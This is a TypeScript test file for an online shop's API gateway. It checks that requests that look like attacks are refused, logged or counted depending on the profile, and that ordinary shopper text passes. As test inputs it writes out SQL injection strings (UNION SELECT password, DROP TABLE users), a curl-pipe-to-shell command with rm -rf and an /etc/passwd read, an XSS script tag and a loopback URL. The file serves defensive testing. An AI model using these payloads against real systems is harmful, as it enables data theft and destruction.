/** How requests that look like attacks are handled, by profile, over HTTP; packages/threats defines which ones do. */

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { listProducts } from '@mambogo/contracts/api/products.ts';
import { request } from 'undici';
import { startGateway, type TestGateway } from '../../testing/start-gateway.ts';

const gateways = new Map<string, TestGateway>();
before(async () => {
  for (const profile of ['local', 'demo', 'prod']) {
    const gateway = await startGateway({ PROFILE: profile });
    for (const peer of ['shop-product', 'shop-cart', 'shop-identity'])
      if (peer !== 'shop-identity')
        gateway.sidecar.handlers.set(peer, (incoming, response) => {
          incoming.resume().once('end', () => response.end('{}'));
        });
    gateways.set(profile, gateway);
  }
});
after(() => Promise.all([...gateways.values()].map((gateway) => gateway.stop())));

const gatewayOf = (profile: string): TestGateway => {
  const gateway = gateways.get(profile);
  assert.ok(gateway);
  return gateway;
};
const detected = ({ context }: TestGateway, wanted: string): number =>
  context.securityEvents.counts().find(({ code, outcome }) => code === 'threat.detected' && outcome === wanted)
    ?.count ?? 0;
/** Of all gateways of this process. */
const counted = async (gateway: TestGateway, action: string): Promise<number> => {
  const line = new RegExp(`^mambogo_gateway_threats_total\\{class="sql",action="${action}"\\} (\\d+)$`, 'm');
  return Number(line.exec(await gateway.metrics())?.[1] ?? 0);
};
const attack = `${listProducts.path}?search=${encodeURIComponent("x' UNION SELECT password FROM users--")}`;
const add = (gateway: TestGateway, body: unknown) =>
  request(`${gateway.url}/api/v1/cart/items`, {
    method: 'POST',
    headers: { authorization: `Bearer ${gateway.token('cart:manage')}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });

for (const profile of ['demo', 'prod'])
  test(`in ${profile} rejects an attack, and counts it by class`, async () => {
    const gateway = gatewayOf(profile);
    const before = await counted(gateway, 'refused');
    const answer = await request(gateway.url + attack);
    assert.equal(answer.statusCode, 403);
    const text = await answer.body.text();
    assert.match(text, /problems\/threat-detected/);
    assert.doesNotMatch(text, /UNION|sql/i);
    assert.equal(await counted(gateway, 'refused'), before + 1);
    assert.equal(detected(gateway, 'refused'), 1);
    assert.deepEqual(gateway.sidecar.invoked, []);
  });

test('in local counts it and lets it pass', async () => {
  const gateway = gatewayOf('local');
  assert.equal((await request(gateway.url + attack)).statusCode, 200);
  assert.equal(await counted(gateway, 'logged'), 1);
  assert.equal(detected(gateway, 'failure'), 1);
  assert.equal(detected(gateway, 'refused'), 0);
});

test('inspects bodies, also behind a long prefix, and keeps the connection open', async () => {
  const gateway = gatewayOf('prod');
  const evil = "1' OR 1=1; DROP TABLE users; --";
  assert.equal((await add(gateway, { productId: evil, quantity: 1 })).statusCode, 403);
  assert.equal((await add(gateway, { padding: 'x'.repeat(60_000), productId: evil })).statusCode, 403);
  assert.equal((await add(gateway, { productId: 'x', quantity: 1 })).statusCode, 200);
});

test('does not inspect unauthenticated requests: without a token a hostile body is a 401', async () => {
  const gateway = gatewayOf('prod');
  const answer = await request(`${gateway.url}/api/v1/cart/merge`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ productId: "1' OR 1=1; DROP TABLE users; --" }),
  });
  assert.equal(answer.statusCode, 401);
  await answer.body.dump();
});

test('rejects a request beyond the inspection limits with a helpful 400 in every profile', async () => {
  for (const profile of gateways.keys()) {
    const many = await add(gatewayOf(profile), { list: Array.from({ length: 600 }, (_none, at) => `a (b) ${at}`) });
    assert.equal(many.statusCode, 400, profile);
    assert.match(await many.body.text(), /500 different values .* split it into several requests/);
    const long = await add(gatewayOf(profile), { text: '<a b="c"> '.repeat(6_000) });
    assert.equal(long.statusCode, 400, profile);
    assert.match(await long.body.text(), /too long to be inspected: shorten them/);
    const hidden = await add(gatewayOf(profile), { padding: 'x'.repeat(70_000), productId: 'x' });
    assert.equal(hidden.statusCode, 400, 'nothing passes uninspected');
  }
});

test('accepts any text from merchants, and rejects the same from others', async () => {
  const gateway = gatewayOf('prod');
  const save = (scope: string, fields: object) =>
    request(`${gateway.url}/api/v1/products`, {
      method: 'POST',
      headers: { authorization: `Bearer ${gateway.token(scope)}`, 'content-type': 'application/json' },
      body: JSON.stringify({ sku: 'BOOK-1', price: { amount: 100, currency: 'EUR' }, category: 'books', ...fields }),
    });
  const description = [
    "SQL for cooks. Chapter 3: ' OR 1=1 -- and why it works; UNION SELECT password FROM users.",
    'Run `rm -rf /tmp/x; curl https://x.example/a | sh` and read /etc/passwd.',
    '<p style="color:red" onclick="x()">Editor</p><script>alert(1)</script>',
    '<iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>',
  ].join('\n');
  assert.equal((await save('product:write', { name: 'SELECT * FROM pens', description })).statusCode, 200);
  assert.equal((await save('product:write', { name: 'Pen', brand: { [description]: 1 } })).statusCode, 403);
  assert.equal(
    (await save('product:write', { name: 'Pen', images: [{ url: 'http://127.0.0.1/', alt: 'x' }] })).statusCode,
    403,
  );
  assert.equal((await save('cart:manage', { name: 'Pen', description })).statusCode, 403, 'for the scope');
  assert.equal((await add(gateway, { name: description })).statusCode, 403);
});

test("accepts ordinary shoppers' texts in every profile", async () => {
  for (const profile of gateways.keys())
    for (const search of ["O'Brien", '<3', '1 < 2', 'SELECT mug', '🙂', '50% off', 'rock & roll; drums'])
      assert.equal(
        (await request(`${gatewayOf(profile).url}/api/v1/products?search=${encodeURIComponent(search)}`)).statusCode,
        200,
        `${search} in ${profile}`,
      );
});
